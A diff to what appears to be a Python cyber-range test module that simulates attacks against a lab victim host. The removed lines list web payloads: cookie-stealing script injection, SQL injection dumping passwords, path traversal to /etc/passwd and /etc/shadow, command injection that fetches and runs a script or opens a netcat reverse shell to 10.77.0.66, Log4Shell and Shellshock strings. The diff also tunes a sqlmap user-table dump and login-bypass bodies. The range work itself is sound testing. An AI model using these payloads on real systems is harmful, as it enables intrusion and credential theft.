@@ -10,10 +10,12 @@ import shlex
 from collections.abc import Sequence
 from dataclasses import dataclass
 from pathlib import Path
+from typing import Any
 from urllib.parse import quote
 
 from tests.range.benign import multipart
 from tests.range.client import Client
+from tests.range.payloads import KNOWN, Attempts, paths
 from tests.range.rig import VICTIM, Place, Range
 from tests.range.timetable import KINDS
 
@@ -50,31 +52,6 @@ PASSWORDS = [
     "trustno1",
 ]
 FTP_USERS = ("ftp", "admin", "intern")
-
-PAYLOADS = (
-    "/search?q=<script>alert(document.cookie)</script>",
-    '/search?q="><img src=x onerror=alert(1)>',
-    "/search?q='><svg/onload=fetch('//10.77.0.66/'+document.cookie)>",
-    "/product?id=1'",
-    "/product?id=1 OR 1=1--",
-    "/product?id=-1 UNION SELECT name,password,role,1 FROM users--",
-    "/search?q=' UNION SELECT 1,name||':'||password,role FROM users--",
-    "/page?name=../../../etc/passwd",
-    "/page?name=..%2f..%2f..%2f..%2fetc%2fpasswd",
-    "/page?name=....//....//....//etc/shadow",
-    "/page?name=php://filter/convert.base64-encode/resource=index.php",
-    "/page?name=/proc/self/environ",
-    "/lookup?host=localhost;id",
-    "/lookup?host=localhost|cat /etc/passwd",
-    "/lookup?host=$(wget http://10.77.0.66/x.sh -O- | sh)",
-    "/lookup?host=`nc 10.77.0.66 4444 -e /bin/sh`",
-    "/search?q={{7*7}}",
-    "/search?q=${jndi:ldap://10.77.0.66:1389/a}",
-    "/.git/config",
-    "/.env",
-    "/cgi-bin/test.cgi?() { :;}; /bin/cat /etc/passwd",
-)
-"""Script injection, SQL injection, path traversal, command injection, template injection."""
 
 WEB_SHELL = """<?php
 // status page
@@ -159,30 +136,32 @@ def log_in(client: Client, user: str, password: str) -> Deed:
     return Deed("ssh_brute_force", "ssh", command, outputs, "T1078", "logs in with the find")
 
 
-def sql_injection(place: Place, path: str = "/product?id=1", *options: str) -> Deed:
-    """Find the hole with sqlmap and take the user table through it."""
+def sql_injection(
+    place: Place, path: str = "/product?id=1", *options: str, seconds: int = LONGEST
+) -> Deed:
+    """Find the hole with sqlmap and take the user table through it, or try for `seconds`."""
     results = place.cwd / f"{place.name}-sqlmap"
     command = ["sqlmap", "-u", f"http://{VICTIM}{path}", "--batch", "--disable-coloring"]
-    command += ["--technique=BEU", "--dbms=sqlite", "--threads=2", "--timeout=5", "--retries=1"]
+    command += ["--threads=2", "--timeout=5", "--retries=1"]
     command += [*options, "--dump", "-T", "users", f"--output-dir={results}"]
-    return _tool(place, "web_injection", command)
+    return _tool(place, "web_injection", command, seconds=seconds)
 
 
 def inject_by_hand(
     client: Client,
-    payloads: Sequence[str] = PAYLOADS,
+    attempts: Attempts = KNOWN,
     agent: str = "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
-    pause: float = 0.6,
+    pause: float = 0.4,
 ) -> Deed:
     """Try what a person tries: script, SQL, path, command and template injection, one by one."""
-    paths = [quote(payload, safe="/?=&%:.-_~+*'()$;,") for payload in payloads]
-    requests = [{"path": path, "pause": pause} for path in paths]
+    tried = [quote(path, safe="/?=&%:.-_~+*'()$;,") for path in paths(attempts)]
+    requests: list[dict[str, Any]] = [{"path": path, "pause": pause} for path in tried]
     form = {"Content-Type": "application/x-www-form-urlencoded"}
     for body in ("name=admin'--&password=x", "name=x&password=' OR '1'='1"):
         posted = {"method": "POST", "path": "/login", "body": body, "headers": form}
         requests.append({**posted, "pause": pause})
     result = client.do("http", requests=requests, headers={"User-Agent": agent}, keep=False)
-    command = f"{len(requests)} requests, first: {payloads[0]}"
+    command = f"{len(requests)} requests, the first: {tried[0]}"
     return Deed("web_injection", "browser", command, str(result), note="by hand")
 
 
@@ -268,8 +247,9 @@ def _tool(
     command: list[str],
     technique: str = "",
     tried: tuple[Sequence[str], Sequence[str]] | None = None,
+    seconds: int = LONGEST,
 ) -> Deed:
-    bounded = ["timeout", "--kill-after=5", str(LONGEST), *command]
+    bounded = ["timeout", "--kill-after=5", str(min(seconds, LONGEST)), *command]
     done = place.run(bounded, check=False, timeout=LONGEST + 10)
     # Paths of the scratch folder say nothing to a reader of the timetable.
     text = shlex.join(command).replace(f"{place.cwd}/", "")
